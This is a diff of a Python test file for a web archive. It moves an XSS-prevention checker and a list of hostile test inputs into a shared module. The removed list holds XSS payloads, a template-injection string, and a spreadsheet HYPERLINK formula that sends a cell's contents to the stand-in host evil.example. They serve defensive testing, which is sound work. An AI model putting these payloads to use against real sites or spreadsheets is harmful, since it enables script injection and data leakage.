@@ -11,7 +11,6 @@ import io
 import re
 import zipfile
 from collections import Counter
-from collections.abc import Iterator
 from dataclasses import replace
 from pathlib import Path
 from typing import Any
@@ -21,7 +20,6 @@ from xml.etree import ElementTree
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
-from selectolax.lexbor import LexborHTMLParser
 
 from archive.bulk import write_bulk
 from archive.csv_answers import _WholeRows
@@ -30,19 +28,11 @@ from archive.security import PublicSite
 from db.connection import open_working
 from db.store import Origin, store, transaction
 from db.threads.build import build_threads
+from tests.hostile_words import ATTACK, ATTACKS, links, no_foreign_markup
 
 from .conftest import getter
 from .sample_archive import COUNCIL, READ_AT, build, harbour, hostile, library, report
 
-ATTACKS = (
-    "<script>alert(1)</script>",
-    "\"><img src=x onerror=alert(1)><a href='javascript:alert(1)'>",
-    "' onmouseover='alert(1)' x='",
-    "{{ 7*7 }}{% raw %}<svg onload=alert(1)>",
-    "]]></summary><entry>&bogus;\u2028\u202e",
-    '=HYPERLINK("http://evil.example/?"&A1,"open")',
-)
-ATTACK = " ".join(ATTACKS)
 MOST_PAGES, ALIKE = 500, 6
 """Pages looked at, and of one kind among them."""
 
@@ -112,13 +102,6 @@ def crawled(get: Any) -> dict[str, Any]:
     return found
 
 
-def links(html: str) -> Iterator[str]:
-    for node in LexborHTMLParser(html).css("[href], [src], form[action]"):
-        address = node.attributes.get("href") or node.attributes.get("src") or node.attributes.get("action") or ""
-        if address.startswith("/") and not address.startswith("//"):
-            yield address.partition("#")[0]
-
-
 def test_the_crawl_sees_every_kind_of_page(crawled: dict[str, Any]) -> None:
     seen = {urlsplit(path).path for path in crawled}
     unlinked = [
@@ -135,20 +118,6 @@ def test_nothing_that_a_paper_holds_becomes_markup_on_any_page(crawled: dict[str
         assert answer.status_code < 500, path
         if answer.headers["content-type"].startswith("text/html"):
             no_foreign_markup(path, answer.text)
-
-
-def no_foreign_markup(path: str, html: str) -> None:
-    tree = LexborHTMLParser(html)
-    assert tree.css("script, iframe, object, embed, base, meta[http-equiv]") == [], path
-    for node in tree.css("*"):
-        for name, value in node.attributes.items():
-            assert not name.startswith("on"), (path, node.html)
-            assert not re.match(r"\s*(?:javascript|data(?!:,)|vbscript):", value or "", re.IGNORECASE), (
-                path,
-                node.html,
-            )
-        assert node.tag != "img" or (node.attributes.get("src") or "").startswith("/"), (path, node.html)
-    assert "49<svg" not in html.replace(" ", ""), "a template in a paper is not run"
 
 
 def test_json_is_told_as_json_and_never_as_a_page(crawled: dict[str, Any]) -> None:
